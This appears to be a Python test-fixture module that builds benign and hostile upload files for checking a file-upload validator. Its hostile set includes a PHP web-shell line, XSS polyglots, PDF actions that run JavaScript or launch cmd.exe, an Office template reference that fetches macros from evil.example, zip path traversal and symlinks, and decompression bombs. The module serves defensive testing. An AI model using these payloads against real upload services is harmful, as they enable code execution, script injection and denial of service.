"""Files for uploads: an honest one of every extension that is taken, and hostile ones. Made at test time: the repository
holds nothing that a virus scanner would want to remove."""

import io
import struct
import wave
import zipfile
import zlib
from pathlib import Path

from PIL import Image

PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
WINDOWS = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0\x4c\x01" + bytes(240)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 0, 0, 64, 56, 0, 64, 0, 0) + bytes(64)
FETCHING = (
    b'<Relationships><Relationship Id="rId1" TargetMode="External" Target="https://evil.example/a.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def picture(width: int = 64, height: int = 48, shade: int = 0) -> Image.Image:
    image = Image.linear_gradient("L").resize((width, height))
    return Image.merge("RGB", (image, image.transpose(Image.Transpose.FLIP_LEFT_RIGHT), Image.new("L", (width, height), shade)))


def with_place() -> Image.Exif:
    """Turned by a quarter, made by a camera at a place."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "SECRET-CAMERA"
    place = exif.get_ifd(0x8825)
    place[1], place[2] = "N", (48.0, 8.0, 0.0)
    return exif


def image(kind: str, width: int = 64, height: int = 48, frames: int = 1, **options) -> bytes:
    output = io.BytesIO()
    more = [picture(width, height, 60 * number) for number in range(1, frames)]
    if more:
        options |= {"save_all": True, "append_images": more, "duration": 100, "loop": 0}
    picture(width, height).save(output, kind, **options)
    return output.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A picture of one colour, made without holding it: a bomb where it is large."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    packer = zlib.compressobj(9)
    line = bytes(1 + (width + 7) // 8)
    data = b"".join(packer.compress(line) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def zipped(entries: dict[str, bytes], links: tuple[str, ...] = ()) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            entry = zipfile.ZipInfo("x", (2026, 1, 1, 0, 0, 0))
            # Set afterwards: it would be made harmless otherwise.
            entry.filename, entry.compress_type = name, zipfile.ZIP_DEFLATED
            if name in links:
                entry.create_system, entry.external_attr = 3, 0o120777 << 16
            archive.writestr(entry, data)
    return output.getvalue()


def encrypted_zip() -> bytes:
    """The bit that says so, in both headers: its content is noise."""
    data = bytearray(zipped({"secret.txt": b"a" * 100}))
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        data[data.index(mark) + offset] |= 1
    return bytes(data)


def office(part: str, kind: str, **more: bytes) -> bytes:
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/></Types>'
    )
    return zipped(
        {"[Content_Types].xml": types.encode(), "_rels/.rels": b"<Relationships/>", part: b"<document/>", "docProps/app.xml": b"<Properties/>"}
        | {name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()}
    )


def ole(*streams: str) -> bytes:
    """A compound file ([MS-CFB]) of one sector for its table, one for each four names, and one for what they hold."""
    names = ["Root Entry", *streams]
    folders = -(-len(names) // 4)
    end, free, table = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    head = struct.pack(
        "<8s16sHHHHH6sIIIIIIIIII", bytes.fromhex("d0cf11e0a1b11ae1"), bytes(16), 0x3E, 3, 0xFFFE, 9, 6, bytes(6), 0, 1, 1, 0, 4096, end,
        0, end, 0, 0,
    ) + struct.pack("<108I", *([free] * 108))
    entries = [table] + [2 + number for number in range(folders - 1)] + [end] + [end]
    data = head + struct.pack("<128I", *(entries + [free] * (128 - len(entries))))
    for number in range(folders * 4):
        name = (names[number] + "\0").encode("utf-16-le") if number < len(names) else b""
        kind = 0 if number >= len(names) else 5 if number == 0 else 2
        child = 1 if number == 0 and streams else free
        right = number + 1 if 0 < number < len(names) - 1 else free
        data += struct.pack(
            "<64sHBBIII16sIQQIQ", name, len(name), kind, 1, free, right, child, bytes(16), 0, 0, 0, 1 + folders if number else end,
            4096 if number else 0,
        )
    return data + bytes(4096)


def sound() -> bytes:
    output = io.BytesIO()
    with wave.open(output, "wb") as file:
        file.setnchannels(1), file.setsampwidth(2), file.setframerate(8000)
        file.writeframes(bytes(2 * 8000))
    return output.getvalue()


def opus(seconds: int = 2) -> bytes:
    """A head, tags, and a page that ends after so many seconds."""

    def page(flags: int, position: int, number: int, packet: bytes) -> bytes:
        return struct.pack("<4sBBQIIIBB", b"OggS", 0, flags, position, 7, number, 0, 1, len(packet)) + packet

    head = b"OpusHead" + struct.pack("<BBHIHB", 1, 1, 312, 48000, 0, 0)
    tags = b"OpusTags" + struct.pack("<I", 0) + struct.pack("<I", 0)
    return page(2, 0, 0, head) + page(0, 0, 1, tags) + page(4, 48000 * seconds + 312, 2, b"\xf8\xff\xfe")


def webm() -> bytes:
    head = bytes.fromhex("42868101 42f78101 42f28104 42f38108 4282847765626d 42878104 42858102".replace(" ", ""))
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(head)]) + head + bytes.fromhex("18538067ffffffffffffff") + bytes(64)


def box(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(data), name) + data


def honest() -> dict[str, tuple[bytes, str]]:
    """By their names: the bytes, and the type they get."""
    sheet = "application/vnd.openxmlformats-officedocument."
    return {
        "a.pdf": (PDF, "application/pdf"),
        "a.jpg": (image("JPEG", exif=with_place()), "image/jpeg"),
        "b.JPEG": (image("JPEG"), "image/jpeg"),
        "a.png": (image("PNG"), "image/png"),
        "a.gif": (image("GIF", frames=3), "image/gif"),
        "a.webp": (image("WEBP", frames=3), "image/webp"),
        "a.docx": (office("word/document.xml", "wordprocessingml.document"), sheet + "wordprocessingml.document"),
        "a.xlsx": (office("xl/workbook.xml", "spreadsheetml.sheet"), sheet + "spreadsheetml.sheet"),
        "a.pptx": (office("ppt/presentation.xml", "presentationml.presentation"), sheet + "presentationml.presentation"),
        "a.doc": (ole("WordDocument", "1Table"), "application/msword"),
        "a.xls": (ole("Workbook"), "application/vnd.ms-excel"),
        "a.ppt": (ole("PowerPoint Document", "Current User"), "application/vnd.ms-powerpoint"),
        "a.txt": ("Grüße — 你好 🎉\n".encode(), "text/plain; charset=utf-8"),
        "a.csv": (b"name,age\nAna,31\nBen,29\n", "text/csv; charset=utf-8"),
        "a.md": (b"# Title\n\nSome *text*, 1 < 2 and [a link](https://example.org).\n", "text/markdown; charset=utf-8"),
        "a.zip": (zipped({"notes/a.txt": b"hello\n", "b.pdf": PDF, "inner.zip": zipped({"c.md": b"# c\n"})}), "application/zip"),
        "a.mp4": (box(b"ftyp", b"isom\0\0\2\0isomiso2mp41") + box(b"mdat", bytes(64)), "video/mp4"),
        "a.m4a": (box(b"ftyp", b"M4A \0\0\0\0M4A mp42isom") + box(b"mdat", bytes(64)), "audio/mp4"),
        "a.mp3": (b"ID3\3\0\0\0\0\0\0" + (b"\xff\xfb\x90\x00" + bytes(413)) * 4, "audio/mpeg"),
        "a.wav": (sound(), "audio/wav"),
        "a.webm": (webm(), "video/webm"),
        "a.ogg": (opus(), "audio/ogg"),
        "a.opus": (opus(), "audio/ogg"),
        "J.R. Smith, report (v1.2).pdf": (PDF, "application/pdf"),
    }


def hostile() -> dict[str, tuple[str, bytes, str]]:
    """What it is: the name, the bytes, and why it is refused."""
    word = ("word/document.xml", "wordprocessingml.document")
    program = "archive_executable"
    deep = zipped({"a.txt": b"a"})
    for _ in range(3):
        deep = zipped({"a.zip": deep})
    zeros = bytes(64 << 20)
    return {
        "a Windows program": ("a.exe", WINDOWS, "extension_denied"),
        "a Windows program renamed": ("a.pdf", WINDOWS, "content_mismatch"),
        "a program as a picture": ("a.jpg", ELF, "content_mismatch"),
        "a program as text": ("a.txt", ELF, "content_mismatch"),
        "a script": ("a.sh", b"#!/bin/sh\nid\n", "extension_denied"),
        "a script as text": ("a.txt", b"#!/bin/sh\nid\n", "content_mismatch"),
        "a script in the middle": ("a.php.jpg", image("JPEG"), "extension_denied"),
        "a name written backwards": ("a\u202egpj.exe", WINDOWS, "extension_denied"),
        "an unknown extension": ("a.xyz", b"hello\n", "extension_unknown"),
        "no extension": ("README", b"hello\n", "extension_unknown"),
        "nothing": ("a.txt", b"", "empty"),
        "a drawing with a script": ("a.svg", SVG, "extension_denied"),
        "a drawing as text": ("a.txt", SVG, "content_mismatch"),
        "a drawing as a picture": ("a.png", SVG, "content_mismatch"),
        "a page as text": ("a.txt", HTML, "content_mismatch"),
        "a page behind blank lines": ("a.txt", b"\n" * 900 + HTML, "content_mismatch"),
        "PHP as text": ("a.csv", b"<?php system($_GET['c']); ?>\n", "content_mismatch"),
        "GIF and script": ("a.gif", b"GIF89a/*" + bytes(40) + b"*/=1;alert(1)//", "malformed"),
        "GIF and script in its name": ("a.jpg", b"GIF89a/*" + bytes(40) + b"*/=1;alert(1)//", "content_mismatch"),
        "page and PDF": ("a.pdf", HTML + PDF, "content_mismatch"),
        "PDF and page": ("a.pdf", PDF.replace(b"\n", b"\n% <script>alert(1)</script>\n", 1), "content_mismatch"),
        "PDF and page behind it": ("a.pdf", PDF + HTML, "content_mismatch"),
        "PDF behind something": ("a.pdf", bytes(20) + PDF, "content_mismatch"),
        "PDF and zip": ("a.pdf", PDF + zipped({"a.txt": b"a"}), "content_mismatch"),
        "PDF that runs a script": ("a.pdf", PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "macro"),
        "PDF that hides a script": ("a.pdf", PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/J#61v#61Script/JS(1)>>"), "macro"),
        "PDF that starts a program": ("a.pdf", PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>"), "macro"),
        "PDF with a file in it": ("a.pdf", PDF.replace(b"/Type/Catalog", b"/Type/Catalog/Names<</EmbeddedFiles 9 0 R>>"), "macro"),
        "half a PDF": ("a.pdf", PDF[:100], "malformed"),
        "picture and zip": ("a.png", image("PNG") + zipped({"a.txt": b"a"}), "content_mismatch"),
        "half a picture": ("a.jpg", image("JPEG", 640, 480)[:4000], "malformed"),
        "a picture of another kind": ("a.png", image("JPEG"), "content_mismatch"),
        "a bomb of pixels": ("a.png", png_of(20_000, 20_000), "image_too_large"),
        "a bomb of frames": ("a.gif", gif_of(10_000, 4_000, 6), "image_too_large"),
        "a program in a zip": ("a.zip", zipped({"docs/setup.exe": WINDOWS}), program),
        "a program in a zip under another name": ("a.zip", zipped({"docs/readme.txt": WINDOWS}), program),
        "a script in a zip in a zip": ("a.zip", zipped({"b.zip": zipped({"c.txt": b"#!/bin/sh\nid\n"})}), program),
        "a zip that escapes": ("a.zip", zipped({"../../etc/passwd": b"x"}), "archive_path"),
        "a zip that escapes on Windows": ("a.zip", zipped({"..\\..\\x.txt": b"x"}), "archive_path"),
        "a zip with an absolute path": ("a.zip", zipped({"/etc/passwd": b"x"}), "archive_path"),
        "a zip with a drive": ("a.zip", zipped({"C:\\x.txt": b"x"}), "archive_path"),
        "a zip with a link": ("a.zip", zipped({"link": b"/etc/passwd"}, links=("link",)), "archive_path"),
        "a zip that unpacks to too much": ("a.zip", zipped({"zeros.txt": zeros}), "archive_bomb"),
        "a zip of too many": ("a.zip", zipped({f"{number}.txt": b"" for number in range(10_001)}), "archive_bomb"),
        "zips too deep": ("a.zip", deep, "archive_nested"),
        "an archive that is not opened": ("a.zip", zipped({"a.gz": b"\x1f\x8b\x08" + bytes(40)}), "archive_nested"),
        "an image of a disk in a zip": ("a.zip", zipped({"invoice.iso": bytes(32_769) + b"CD001" + bytes(2_000)}), "archive_nested"),
        "a cabinet in a zip under another name": ("a.zip", zipped({"a.dat": b"MSCF" + bytes(40)}), "archive_nested"),
        "an LHA in a zip under another name": ("a.zip", zipped({"a.dat": b"\x1f\x05-lh5-" + bytes(40)}), "archive_nested"),
        "a zip under a password": ("a.zip", encrypted_zip(), "archive_encrypted"),
        "half a zip": ("a.zip", zipped({"a.txt": b"a" * 1000, "b.txt": bytes(1000)})[:-30], "malformed"),
        "a document without its part": ("a.docx", zipped({"[Content_Types].xml": b"<Types/>", "a.txt": b"a"}), "content_mismatch"),
        "a table as a document": ("a.docx", office("xl/workbook.xml", "spreadsheetml.sheet"), "content_mismatch"),
        "a document with a macro": ("a.docx", office(*word, word__vbaProject_dot_bin=ole("VBA")), "macro"),
        "a document of the kind with macros": ("a.docx", office("word/document.xml", "wordprocessingml.document.macroEnabled.12"), "macro"),
        "a document that fetches its macros": ("a.docx", office(*word, word___rels__settings_dot_xml_dot_rels=FETCHING), "macro"),
        "a document that fetches them in UTF-16": ("a.docx", office(*word, word___rels__settings_dot_xml_dot_rels=FETCHING.decode().encode("utf-16")), "macro"),
        "a document that fetches them in single quotes": ("a.docx", office(*word, word___rels__settings_dot_xml_dot_rels=FETCHING.replace(b'"', b"'")), "macro"),
        "a document that fetches them by references": ("a.docx", office(*word, word___rels__settings_dot_xml_dot_rels=FETCHING.replace(b"https:", b"&#104;ttps:")), "macro"),
        "a document that fetches them from a part in capitals": ("a.docx", office(*word, word___rels__settings_dot_xml_dot_RELS=FETCHING), "macro"),
        "a document whose parts have a document type": ("a.docx", office(*word, word___rels__settings_dot_xml_dot_rels=b"<!DOCTYPE a [<!ENTITY b 'c'>]>" + FETCHING), "malformed"),
        "a document with a program": ("a.docx", office(*word, word__embeddings__oleObject1_dot_bin=ole("\1Ole10Native")), program),
        "an old document with a macro": ("a.doc", ole("WordDocument", "_VBA_PROJECT"), "macro"),
        "an old document with a macro in other letters": ("a.doc", ole("WordDocument", "mACROS", "_vba_project"), "macro"),
        "an old document with a program in other letters": ("a.doc", ole("WordDocument", "\1OLE10native"), program),
        "an old document with a program": ("a.doc", ole("WordDocument", "\1Ole10Native"), program),
        "an installer as a document": ("a.doc", ole("Property", "Tables"), "content_mismatch"),
        "a document under a password": ("a.doc", ole("WordDocument", "EncryptedPackage"), "archive_encrypted"),
        "text that is none": ("a.txt", b"caf\xe9 \xff\xfe\n", "text_encoding"),
        "sound and zip": ("a.wav", sound() + zipped({"a.txt": b"a"}), "content_mismatch"),
    }


def gif_of(width: int, height: int, frames: int) -> bytes:
    """Frames that say how large they are and hold next to nothing."""
    frame = b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x4c\x01\x00"
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6)
    return head + frame * frames + b";"


def write(folder: Path, name: str, data: bytes) -> Path:
    folder.mkdir(parents=True)
    path = folder / name
    path.write_bytes(data)
    return path
